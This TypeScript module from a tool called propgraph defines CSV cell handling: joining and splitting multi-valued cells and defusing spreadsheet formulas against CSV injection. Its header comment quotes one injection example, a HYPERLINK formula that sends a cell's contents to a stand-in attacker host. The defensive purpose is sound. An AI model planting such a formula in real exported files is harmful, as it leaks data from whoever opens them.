/**
 * What a cell of propgraph's CSV holds (docs/cli.md, "Values in CSV"): a property's
 * values in one cell, separated by `|` (a `|` or `\` inside a value escaped with `\`),
 * and spreadsheet formulas defused.
 *
 * Spreadsheets run a cell that starts with `=`, `+`, `-` or `@` (and some a tab or a
 * carriage return) as a formula: a value such as `=HYPERLINK("http://evil.example/?"&A2)`
 * would run when the exported file is opened (issue #46 item 8). As OWASP advises for
 * CSV injection, such a cell is written with a `'` before it, which spreadsheets show as
 * text and do not keep; a cell that starts with `'` itself gets one more, so reading a
 * file back takes exactly one leading `'` off any cell and every value comes back as it
 * was. Pure: the CLI and the console share these rules.
 */

/** The characters that make a spreadsheet read a cell as a formula, and the quote that marks a cell defused. */
const FORMULA_START = /^[=+\-@\t\r']/;

/** A cell as it is written to a file: a leading `'` added when the cell could run as a formula (or starts with `'`). */
export function defuseFormula(cell: string): string {
  return FORMULA_START.test(cell) ? `'${cell}` : cell;
}

/** A cell as read from a file: the one leading `'` that writing added taken off. */
export function restoreFormula(cell: string): string {
  return cell.startsWith("'") ? cell.slice(1) : cell;
}

/** Several values in one cell: `a|b`, with `|` and `\` inside a value escaped. */
export function joinValues(values: readonly string[]): string {
  return values.map((v) => v.replace(/\\/g, '\\\\').replace(/\|/g, '\\|')).join('|');
}

/** The values in a cell; an empty cell holds none. */
export function splitValues(cell: string): string[] {
  if (cell === '') return [];
  // Most cells hold one value with nothing escaped: the cell itself.
  if (!cell.includes('|') && !cell.includes('\\')) return [cell];
  const out: string[] = [];
  // Pieces between escapes are sliced and joined once: adding a character at a time
  // builds a string of one node per character (10,000 rows of 300 characters took 90 MB).
  let pieces: string[] = [];
  let from = 0;
  for (let i = 0; i < cell.length; i++) {
    const c = cell[i]!;
    if (c === '\\' && i + 1 < cell.length) {
      pieces.push(cell.slice(from, i), cell[i + 1]!);
      from = ++i + 1;
    } else if (c === '|') {
      pieces.push(cell.slice(from, i));
      out.push(pieces.join(''));
      pieces = [];
      from = i + 1;
    }
  }
  pieces.push(cell.slice(from));
  out.push(pieces.join(''));
  return out;
}
